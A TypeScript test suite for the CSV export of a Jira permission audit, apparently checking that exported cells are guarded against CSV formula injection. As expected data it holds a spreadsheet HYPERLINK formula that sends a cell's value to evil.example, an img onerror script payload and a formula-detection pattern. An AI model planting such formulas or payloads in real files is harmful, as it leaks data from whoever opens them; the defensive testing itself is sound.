import { parse } from 'csv-parse/sync';
import { onOneLine } from '../../../src/contract/markdown-text';
import { packCsv } from '../../../src/export/pack';
import { csvText, MAX_CELL } from '../../../src/export/pack/csv-text';
import { endTestApp, type Started, startTestApp } from '../../support/app/test-apps';
import { fc, runs } from '../../support/random';
import { HOSTILE } from './hostile-names';
import { hostileSite } from './hostile-site';
import { hostilePack } from './packs';

let started: Started;
let csv: string;
let pack: Awaited<ReturnType<typeof hostilePack>>;

beforeAll(async () => {
  started = await startTestApp({ siteFile: hostileSite() });
  pack = await hostilePack(started.app);
  csv = packCsv(pack);
});
afterAll(() => endTestApp(started));

const read = (text: string): string[][] => parse(text, { bom: true, skip_empty_lines: false });

/** The cells as the most careless program parts them: at every sign that separates anywhere, whatever the quotes say. */
const carelessly = (text: string): string[] =>
  text.split(/[,;|\t\r\n]/u).map((cell) => cell.replace(/^[\uFEFF\s"]+/u, ''));

/** What a spreadsheet takes for a formula (OWASP, "CSV Injection"). */
const FORMULA = /^[\s\0]*[=+\-@\t\r＝＋－＠]/u;

test('a row for each gap, one for each permission beyond the need, and one for each waiver, whatever its state', () => {
  const rows = parse<Record<string, string>>(csv, { bom: true, columns: true, record_delimiter: '\r\n' });
  const kinds = (kind: string) => rows.filter((row) => row['Row'] === kind);
  const { report } = pack;
  expect(kinds('Gap')).toHaveLength(report.gaps.length);
  expect(report.gaps.length).toBeGreaterThan(HOSTILE.length);
  expect(kinds('Beyond the need').map((row) => row['Permission key'])).toEqual([
    'ADMINISTER',
    'ADD_COMMENTS',
  ]);
  expect(kinds('Waiver').map((row) => row['Waiver'])).toEqual(['Holds', 'Lapsed', 'Expired', 'Not used']);
  expect(kinds('Gap').filter((row) => row['Waiver'] === 'Holds')).toHaveLength(report.counts.waived);
  const edit = rows.find((row) => row['Project key'] === 'P9' && row['Permission key'] === 'EDIT_ISSUES');
  expect(edit).toMatchObject({
    'Project ID': '10',
    Permission: 'Edit issues',
    Level: 'Required',
    Outcome: 'Missing',
    Proof: 'Proved twice',
    'Account ID': report.account.accountId,
    Run: report.runId,
    'Checked at (UTC)': `${report.startedAt.slice(0, 10)} ${report.startedAt.slice(11, 19)}`,
    Site: 'https://small.example',
  });
  expect(edit?.['Where to change']).toMatch(/^https:\/\//u);
});

test('it opens as what it is: UTF-8 with a mark, CR LF, no line inside a cell, no cell too long', () => {
  expect(csv.startsWith('\uFEFF"Row"')).toBe(true);
  expect(csv.endsWith('\r\n')).toBe(true);
  const rows = read(csv);
  expect(csv.split('\r\n')).toHaveLength(rows.length + 1);
  expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/u);
  expect(Math.max(...rows.flat().map((cell) => cell.length))).toBe(MAX_CELL);
  expect(new Set(rows.map((row) => row.length)).size).toBe(1);
});

test('no cell is a formula, also where a program parts cells otherwise', () => {
  expect(
    read(csv)
      .flat()
      .filter((cell) => FORMULA.test(cell)),
  ).toEqual([]);
  expect(carelessly(csv).filter((cell) => FORMULA.test(cell))).toEqual([]);
});

test('names are what they are in Jira, but for the guard', () => {
  const names = read(csv).map((row) => row[3]);
  expect(names).toContain(`'=HYPERLINK("https://evil.example/?x="&A1,"click")`);
  expect(names).toContain("'＝1+1");
  expect(names).toContain('<img src=x onerror="alert(1)">');
  expect(names).toContain('one two # three four');
});

test('whatever cells hold, they are read as they were, guarded and on one line', () => {
  const cell = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 20 }),
    fc.string({ maxLength: 20 }),
    fc
      .array(fc.constantFrom('=', '+', '"', ',', ';', '\r\n', ' ', 'a', "'", '\t', '-', '＠'), {
        maxLength: 8,
      })
      .map((all) => all.join('')),
  );
  fc.assert(
    fc.property(
      fc.array(fc.array(cell, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 4 }),
      (rows) => {
        const text = csvText(rows);
        const found = read(text);
        const bare = (all: readonly (readonly string[])[]) =>
          all.map((row) => row.map((one) => one.replaceAll("'", '')));
        expect(bare(found)).toEqual(bare(rows.map((row) => row.map(onOneLine))));
        expect([...found.flat(), ...carelessly(text)].filter((one) => FORMULA.test(one))).toEqual([]);
      },
    ),
    { numRuns: runs(500) },
  );
});
